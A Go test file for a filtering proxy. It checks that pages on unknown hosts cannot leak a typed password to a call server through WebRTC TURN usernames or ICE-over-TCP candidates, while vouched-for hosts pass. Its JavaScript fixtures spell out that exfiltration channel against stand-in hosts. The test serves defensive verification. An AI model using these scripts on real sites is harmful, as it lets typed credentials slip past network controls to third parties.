package proxy_test

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"sekisho/journal"
	"sekisho/proxy"
)

// callServer keeps what it heard, and asks who wants an allocation of TURN, as every
// server does.
type callServer struct {
	mu    sync.Mutex
	heard strings.Builder
}

func (s *callServer) serve(c net.Conn) {
	_ = c.SetDeadline(time.Now().Add(patience))
	for said := make([]byte, 4<<10); ; {
		n, err := c.Read(said)
		s.note(said[:n])
		if err != nil {
			return
		}
		if n < 20 || string(said[:2]) != "\x00\x03" {
			continue
		}
		// 401, with the realm and the nonce that the next request is to have (RFC 8489,
		// section 9.2.4; RFC 8656, section 7.2).
		asks := stunAttribute(9, "\x00\x00\x04\x01Unauthorized") + stunAttribute(0x14, "realm") + stunAttribute(0x15, "nonce")
		_, _ = io.WriteString(c, "\x01\x13"+string(binary.BigEndian.AppendUint16(nil, uint16(len(asks))))+string(said[4:20])+asks)
	}
}

func (s *callServer) note(said []byte) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.heard.Write(said)
}

func (s *callServer) all() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.heard.String()
}

// callPage is a site whose front page does what script says, and is loaded once that has
// come to an end: script calls tried then, or over says so.
func callPage(script string, over func() bool) http.Handler {
	var tried atomic.Bool
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/tried":
			tried.Store(true)
		case "/wait": // an image of the page
			for end := time.Now().Add(patience); !tried.Load() && !over() && time.Now().Before(end); {
				time.Sleep(5 * time.Millisecond)
			}
		case "/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, `<!doctype html><title>call</title><p id=state>begun</p><img src=/wait><script>
const say = what => { document.getElementById("state").textContent += " " + what };
const tried = () => fetch("/tried");
`+script+`</script>`)
		default:
			http.NotFound(w, r)
		}
	})
}

// turnScript names url as the server for its calls, and what was typed as the user.
func turnScript(url, typed string) string {
	return fmt.Sprintf(`
const call = new RTCPeerConnection({iceTransportPolicy: "relay", iceServers: [{urls: %q, username: %q, credential: "x"}]});
call.onicegatheringstatechange = () => { say(call.iceGatheringState); if (call.iceGatheringState == "complete") tried() };
call.createDataChannel("x");
call.createOffer().then(offer => call.setLocalDescription(offer));
`, url, typed)
}

// iceScript calls somebody at addr over TCP (RFC 6544), whose name is what was typed.
func iceScript(addr netip.AddrPort, typed string) string {
	return fmt.Sprintf(`
const call = new RTCPeerConnection();
call.createDataChannel("x");
call.createOffer().then(offer => call.setLocalDescription(offer)).then(() => call.setRemoteDescription({type: "answer", sdp: [
	"v=0", "o=- 1 1 IN IP4 0.0.0.0", "s=-", "t=0 0", "a=group:BUNDLE 0", "m=application 9 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 0.0.0.0",
	"a=mid:0", "a=ice-ufrag:" + %q, "a=ice-pwd:abcdefghijklmnopqrstuvwx", "a=fingerprint:sha-256 " + Array(32).fill("AB").join(":"),
	"a=setup:passive", "a=sctp-port:5000", "a=candidate:1 1 tcp 2105458943 %s %d typ host tcptype passive", ""].join("\r\n")}),
).then(() => say("complete"), say);
`, typed, addr.Addr(), addr.Port())
}

// TestHP36CallsChromium is HP-36 with a browser: a page on a host that nobody knows has
// it tell a server for calls what was typed, by TURN or by ICE over TCP. To one that is
// vouched for, which shows that the page does what it is to do, the same passes.
func TestHP36CallsChromium(t *testing.T) {
	t.Parallel()
	needTools(t, "chromium", "certutil")
	const office, here = "turn.office.example", "127.0.0.1"
	type callLab struct {
		*lab
		browserHome
	}
	run := func(entries ...string) callLab {
		l := start(t, func(o *proxy.Options) { o.Settings.Policy = policy(entries...) })
		l.protect()
		return callLab{l, l.browserHome(t, "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE "+here)}
	}
	strict, vouching := run("allow", office), run("allow", here)
	for i, tt := range []struct {
		callLab
		way, host string
		passes    bool
	}{
		{strict, "turn", "strange-call.example", false},
		{strict, "turns", "strange-calls.example", false},
		{strict, "ice", here, false},
		{strict, "turn", office, true},
		{strict, "turns", office, true},
		{strict, "turn", "worldaz.tr.teams.microsoft.com", true},
		{vouching, "ice", here, true},
	} {
		t.Run(fmt.Sprintf("%s %s, vouched for %t", tt.way, tt.host, tt.passes), func(t *testing.T) {
			l, server, fresh := tt.lab, new(callServer), fmt.Sprintf("fresh-%d.example", i)
			events := func() []journal.Event {
				return l.events(journal.Filter{Technique: journal.TechniqueCall, Host: tt.host})
			}
			over := func() bool { return tt.way == "ice" && (server.all() != "" || len(events()) > 0) }
			var script string
			switch turn := "%s:%s?transport=tcp"; tt.way {
			case "turn":
				script = turnScript(fmt.Sprintf(turn, tt.way, authority(tt.host, l.Raw([]string{tt.host}, server.serve))), ownID+"|"+ownPassword)
			case "turns":
				script = turnScript(fmt.Sprintf(turn, tt.way, authority(tt.host, l.RawTLS([]string{tt.host}, server.serve))), ownID+"|"+ownPassword)
			case "ice":
				script = iceScript(l.Raw(nil, server.serve).AddrPort(), ownPassword)
			}
			site := l.Origin([]string{fresh}, callPage(script, over))
			if page := tt.dump(t, https(fresh, site, "/")); !strings.Contains(page, "complete") {
				t.Fatalf("the page did not try to call: %.600s", page)
			}
			if heard := server.all(); tt.passes != strings.Contains(heard, ownPassword) || !tt.passes && heard != "" {
				t.Errorf("the server heard %q; want the password to pass: %t", heard, tt.passes)
			}
			told := events()
			if tt.passes == (len(told) > 0) {
				t.Errorf("%d events of the call; want some: %t", len(told), !tt.passes)
			}
			for _, e := range told {
				if e.Action != journal.ActionBlock || e.Sent == nil || *e.Sent {
					t.Errorf("event = %+v; want that nothing was sent", e)
				}
			}
		})
	}
}
